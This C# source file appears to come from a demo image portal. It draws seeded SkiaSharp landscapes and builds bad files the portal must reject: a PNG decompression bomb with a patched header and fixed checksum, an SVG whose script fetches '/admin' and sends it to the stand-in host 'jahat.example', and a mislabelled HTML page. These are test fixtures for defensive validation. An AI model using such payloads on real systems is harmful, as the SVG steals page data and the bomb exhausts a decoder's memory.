using System.Buffers.Binary;
using System.Text;
using SkiaSharp;

namespace Siberindo.Demo;

/// <summary>
/// The demo network's pictures, drawn on request with SkiaSharp (nothing is downloaded): a landscape of sky, sun and
/// hills in colours that follow from a seed, with a fine grain so that it encodes like a photo; and the bad files a
/// member's server may send, which the portal must refuse.
/// </summary>
public static class DemoImages
{
    public static byte[] Scene(int width, int height, SKEncodedImageFormat format, int seed, int quality = 82)
    {
        var random = new Random(seed);
        SKColor Hue(float saturation, float lightness) => SKColor.FromHsl(random.Next(360), saturation, lightness);
        using var surface = SKSurface.Create(new SKImageInfo(width, height));
        var canvas = surface.Canvas;
        using (var sky = new SKPaint())
        {
            sky.Shader = SKShader.CreateLinearGradient(new SKPoint(0, 0), new SKPoint(0, height),
                [Hue(60, 55), Hue(70, 80)], SKShaderTileMode.Clamp);
            canvas.DrawRect(0, 0, width, height, sky);
        }
        using (var sun = new SKPaint { Color = SKColor.FromHsl(45, 100, 70), IsAntialias = true })
            canvas.DrawCircle(width * (0.15f + 0.7f * random.NextSingle()), height * 0.3f, height * 0.12f, sun);
        for (var layer = 0; layer < 3; layer++)
        {
            using var hill = new SKPaint { Color = Hue(45, 25 + layer * 8), IsAntialias = true };
            using var path = new SKPath();
            var top = height * (0.45f + 0.12f * layer);
            path.MoveTo(0, height);
            path.LineTo(0, top + height * 0.1f * random.NextSingle());
            for (var x = 1; x <= 4; x++)
                path.QuadTo(width * (x - 0.5f) / 4, top - height * 0.15f * random.NextSingle(), width * x / 4f, top + height * 0.1f * random.NextSingle());
            path.LineTo(width, height);
            path.Close();
            canvas.DrawPath(path, hill);
        }
        using (var grain = new SKPaint())
            for (var i = 0; i < width * height / 40; i++)
            {
                grain.Color = new SKColor((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256), 40);
                canvas.DrawPoint(random.Next(width), random.Next(height), grain);
            }
        using var image = surface.Snapshot();
        using var data = image.Encode(format, quality);
        return data.ToArray();
    }

    /// <summary>
    /// A decompression bomb: a real PNG whose header (checksum and all) declares a canvas of width x height, while its
    /// data stays a few kilobytes. Decoded, 100,000 x 100,000 would ask for 40 GB.
    /// </summary>
    public static byte[] PixelBomb(uint width = 100_000, uint height = 100_000)
    {
        var png = Scene(200, 120, SKEncodedImageFormat.Png, seed: 1);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(16), width);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(20), height);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), System.IO.Hashing.Crc32.HashToUInt32(png.AsSpan(12, 17)));
        return png;
    }

    /// <summary>An SVG whose script would read the reader's pages and send them away, if any browser ran it from our origin.</summary>
    public static readonly byte[] SvgWithScript = Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"640\" height=\"360\">" +
        "<script>fetch('/admin').then(r => r.text()).then(t => new Image().src = 'https://jahat.example/?' + t)</script>" +
        "<rect width=\"640\" height=\"360\" fill=\"red\"/></svg>");

    /// <summary>A CMS's error page, which some servers send with the type of the picture that was asked for.</summary>
    public static readonly byte[] HtmlPage = Encoding.UTF8.GetBytes(
        "<!DOCTYPE html><html><head><title>404</title></head><body><h1>Halaman tidak ditemukan</h1></body></html>");
}
